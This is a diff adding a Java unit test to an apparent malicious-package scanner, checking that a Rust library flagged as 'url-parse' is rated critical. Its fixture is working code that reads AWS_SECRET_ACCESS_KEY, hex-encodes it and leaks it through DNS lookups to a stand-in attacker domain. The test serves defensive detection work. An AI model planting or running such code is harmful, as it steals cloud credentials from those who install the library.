@@ -251,4 +251,24 @@ class RealIncidentsTest {
                 """);
         assertThat(finding(scan, "load-time-code").severity().label()).isEqualTo("high");
     }
+
+    /** The seed attack moved into library code: the payload runs in the program, the secret leaves in DNS names. */
+    @Test
+    void aSecretFlowingIntoAHostNameInLibraryCodeIsCritical() {
+        CrateScan scan = scan("url-parse", "src/lib.rs", """
+                use std::net::ToSocketAddrs;
+                pub fn parse(url: &str) -> Option<&str> {
+                    if let Ok(key) = std::env::var("AWS_SECRET_ACCESS_KEY") {
+                        let label: String = key.bytes().map(|b| format!("{:02x}", b)).collect();
+                        let host = format!("{}.t.malicious-domain.com:53", label);
+                        let _ = host.to_socket_addrs();
+                    }
+                    url.split("://").nth(1)
+                }
+                """);
+        Finding finding = finding(scan, "library-exfiltration");
+        assertThat(finding.severity().label()).isEqualTo("critical");
+        assertThat(finding.message()).contains("env AWS_SECRET_ACCESS_KEY (3) → key (3) → label (4) → host (5) "
+                + "→ to_socket_addrs (6)");
+    }
 }
